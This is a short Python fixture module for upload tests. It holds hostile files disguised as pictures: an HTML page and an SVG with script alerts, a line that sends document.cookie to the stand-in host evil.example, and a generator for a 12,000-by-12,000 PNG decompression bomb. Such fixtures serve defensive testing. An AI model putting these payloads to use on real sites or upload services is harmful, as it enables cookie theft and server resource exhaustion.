"""Files for tests of uploads: pages and scripts named like pictures, and a decompression bomb."""

import struct
import zlib

HTML = b"<!doctype html><title>x</title><script>alert(document.cookie)</script>"
SCRIPT = b"fetch('//evil.example/' + document.cookie)"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'


def png_of(width: int, height: int) -> bytes:
    """A black PNG of one bit a pixel. Its pixels are never all in memory."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    packer = zlib.compressobj(9)
    line = bytes(1 + -(-width // 8))
    rows = b"".join([*(packer.compress(line) for _row in range(height)), packer.flush()])
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        [chunk(b"IHDR", header), chunk(b"IDAT", rows), chunk(b"IEND", b"")]
    )


BOMB = png_of(12_000, 12_000)
